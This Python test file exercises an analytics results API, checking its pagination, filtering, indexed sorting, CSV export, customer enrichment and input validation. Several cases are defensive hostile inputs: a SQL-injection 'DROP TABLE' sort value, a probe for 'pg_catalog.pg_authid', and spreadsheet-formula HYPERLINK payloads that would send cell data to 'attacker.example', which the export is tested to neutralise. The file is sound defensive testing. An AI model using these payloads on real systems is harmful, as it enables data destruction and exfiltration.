"""/api/v1/results/{mart} and the enriched /api/v1/customers/{id}, through the real app against the
analytics warehouse built from the sample."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal

import psycopg
import pytest
from fastapi.testclient import TestClient

from brainops.apikeys import create_key
from brainops.exports import FORMULA_TRIGGERS
from serving.app import create_app
from serving.routes.results import MARTS
from tests.analytics.conftest import Built


@pytest.fixture(scope="module")
def client(analytics: Built) -> Iterator[TestClient]:
    with TestClient(create_app(analytics.url)) as c:
        with psycopg.connect(analytics.url) as conn:
            c.headers["X-API-Key"] = create_key(conn, name="results-tests", role="analyst").secret
        yield c


def count(built: Built, statement: str, params: tuple = ()) -> int:
    with psycopg.connect(built.url) as conn:
        return conn.execute(statement, params).fetchone()[0]


def test_every_mart_is_listed_with_its_sortable_and_filterable_columns(client: TestClient) -> None:
    listed = {m["mart"]: m for m in client.get("/api/v1/results").json()}
    assert set(listed) == set(MARTS) >= {
        "customer_360", "revenue_monthly", "job_profitability", "sales_pipeline", "ar_aging", "payment_risk",
    }
    assert "open_receivables" in listed["ar_aging"]["sortable"]


def test_sortable_and_filterable_columns_are_really_indexed(analytics: Built) -> None:
    with psycopg.connect(analytics.url) as conn:
        indexed = {
            (table, column)
            for table, column in conn.execute(
                """SELECT t.relname, a.attname FROM pg_index i
                   JOIN pg_class t ON t.oid = i.indrelid JOIN pg_namespace n ON n.oid = t.relnamespace
                   JOIN pg_attribute a ON a.attrelid = t.oid AND a.attnum = i.indkey[0]
                   WHERE n.nspname = 'analytics'"""
            )
        }
    for mart in MARTS.values():
        for column in mart.sortable:
            assert (mart.name, column) in indexed, f"{mart.name}.{column} is not the first column of an index"


def test_a_key_is_required(client: TestClient) -> None:
    assert client.get("/api/v1/results/ar_aging", headers={"X-API-Key": ""}).status_code == 401


def test_pages_cover_every_row_once_in_key_order(client: TestClient, analytics: Built) -> None:
    total = count(analytics, "SELECT count(*) FROM analytics.customer_360")
    page = client.get("/api/v1/results/customer_360?limit=70").json()
    assert page["total"] == total and len(page["items"]) == 70
    ids = [row["customer_id"] for row in page["items"]]
    while page["next"]:
        page = client.get(page["next"]).json()
        ids += [row["customer_id"] for row in page["items"]]
    assert len(ids) == len(set(ids)) == total and ids == sorted(ids)


def test_filters_and_sort(client: TestClient, analytics: Built) -> None:
    with psycopg.connect(analytics.url) as conn:
        region = conn.execute(
            "SELECT region FROM analytics.ar_aging WHERE days_over_90 > 0 GROUP BY 1 ORDER BY count(*) DESC LIMIT 1"
        ).fetchone()[0]
    body = client.get(
        f"/api/v1/results/ar_aging?region={region}&days_over_90__gte=0.01&sort=-days_over_90&limit=500"
    ).json()
    expected = count(
        analytics, "SELECT count(*) FROM analytics.ar_aging WHERE region = %s AND days_over_90 >= 0.01", (region,)
    )
    assert body["total"] == expected > 0
    values = [Decimal(r["days_over_90"]) for r in body["items"]]
    assert values == sorted(values, reverse=True) and all(v > 0 for v in values)
    assert all(r["region"] == region for r in body["items"])

    quarter = client.get("/api/v1/results/revenue_monthly?month__gte=2026-01-01&month__lt=2026-04-01").json()
    assert [r["month"] for r in quarter["items"]] == ["2026-01-01", "2026-02-01", "2026-03-01"]
    risky = client.get("/api/v1/results/payment_risk?risk_level=high&sort=-risk_score").json()
    assert all(r["risk_score"] >= 50 and r["risk_reasons"] for r in risky["items"])


@pytest.mark.parametrize("how", ["format=csv", "Accept: text/csv"])
def test_csv_export_streams_every_matching_row(client: TestClient, analytics: Built, how: str) -> None:
    with psycopg.connect(analytics.url) as conn:
        biggest = "SELECT region FROM analytics.customer_360 GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1"
        region = conn.execute(biggest).fetchone()[0]
    url = f"/api/v1/results/customer_360?region={region}&sort=-lifetime_value&limit=5"
    if how == "format=csv":
        response = client.get(f"{url}&format=csv")
    else:
        response = client.get(url, headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert 'filename="customer_360.csv"' in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == list(MARTS["customer_360"].columns)
    # Every matching row (paging does not apply), in the requested order.
    expected = count(analytics, "SELECT count(*) FROM analytics.customer_360 WHERE region = %s", (region,))
    assert len(rows) - 1 == expected > 5
    assert {r[rows[0].index("region")] for r in rows[1:]} == {region}
    ltv = [Decimal(r[rows[0].index("lifetime_value")]) for r in rows[1:]]
    assert ltv == sorted(ltv, reverse=True)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/results/customer_360?sort=email",  # not indexed
        "/api/v1/results/customer_360?sort=customer_id;DROP TABLE analytics.customer_360",
        "/api/v1/results/customer_360?password=x",  # unknown column
        "/api/v1/results/customer_360?email=a@b.c",  # a column, but not an indexed one
        "/api/v1/results/ar_aging?region__like=T%",  # unknown operator
        "/api/v1/results/revenue_monthly?month=last-tuesday",  # not a date
        "/api/v1/results/payment_risk?risk_score__gte=high",
        "/api/v1/results/ar_aging?limit=0",
        "/api/v1/results/ar_aging?format=xml",
    ],
)
def test_unknown_or_unindexed_columns_and_bad_values_get_422(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 422, response.text
    assert response.json()["detail"][0]["msg"]


@pytest.mark.parametrize("mart", ["pg_catalog.pg_authid", "customers_raw", "stg_stripe__charges", "nope"])
def test_an_unknown_mart_is_404_naming_the_marts(client: TestClient, mart: str) -> None:
    response = client.get(f"/api/v1/results/{mart}")
    assert response.status_code == 404
    assert "customer_360" in response.json()["detail"] and "payment_risk" in response.json()["detail"]


def test_every_mart_answers_json_and_csv(client: TestClient, analytics: Built) -> None:
    for name, mart in MARTS.items():
        rows = count(analytics, f"SELECT count(*) FROM analytics.{name}")
        body = client.get(f"/api/v1/results/{name}?limit=5").json()
        assert body["total"] == rows and len(body["items"]) == min(5, rows), name
        assert all(list(item) == list(mart.columns) for item in body["items"]), name
        exported = list(csv.reader(io.StringIO(client.get(f"/api/v1/results/{name}?format=csv").text)))
        assert exported[0] == list(mart.columns) and len(exported) == rows + 1, name


def test_customer_detail_is_enriched_from_customer_360(client: TestClient, analytics: Built) -> None:
    with psycopg.connect(analytics.url) as conn:
        customer_id, ltv, level, stripe_id = conn.execute(
            "SELECT customer_id, lifetime_value, payment_risk_level, stripe_customer_id FROM analytics.customer_360 "
            "WHERE stripe_customer_id IS NOT NULL ORDER BY lifetime_value DESC LIMIT 1"
        ).fetchone()
    body = client.get(f"/api/v1/customers/{customer_id}").json()
    assert Decimal(body["lifetime_value"]) == ltv and body["payment_risk_level"] == level
    assert body["stripe_customer_id"] == stripe_id and body["match_method"]


def test_csv_export_neutralises_text_a_spreadsheet_would_run(client: TestClient, analytics: Built) -> None:
    """A customer named like a formula comes out as text (OWASP: a leading quote); amounts stay numbers."""
    hostile = {f"zz-injection-{i}": trigger for i, trigger in enumerate(FORMULA_TRIGGERS)}
    with psycopg.connect(analytics.url) as conn:
        for customer_id, trigger in hostile.items():
            conn.execute(
                """INSERT INTO analytics.ar_aging (customer_id, customer_name, region, open_invoices,
                   open_receivables, not_yet_due, days_0_30, days_31_60, days_61_90, days_over_90, past_due_total,
                   oldest_days_past_due, as_of_date)
                   VALUES (%s, %s, %s, 1, -125.50, -125.50, 0, 0, 0, 0, 0, 0, current_date)""",
                (customer_id, f'{trigger}HYPERLINK("http://attacker.example/?"&A2,"Acme")', f"{trigger}TX"))
    try:
        response = client.get("/api/v1/results/ar_aging?customer_id__gte=zz-injection-&format=csv")
        assert response.status_code == 200
        header, *rows = list(csv.reader(io.StringIO(response.text, newline="")))
        got = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
        assert set(got) == set(hostile)
        for customer_id, trigger in hostile.items():
            row = got[customer_id]
            assert row["customer_name"] == f"'{trigger}HYPERLINK(\"http://attacker.example/?\"&A2,\"Acme\")"
            assert row["region"] == f"'{trigger}TX"
            assert row["open_receivables"] == "-125.50"  # a number, untouched
        assert [f for row in rows for f in row if f.startswith(FORMULA_TRIGGERS) and f != "-125.50"] == []
    finally:
        with psycopg.connect(analytics.url) as conn:
            conn.execute("DELETE FROM analytics.ar_aging WHERE customer_id = ANY(%s)", (list(hostile),))
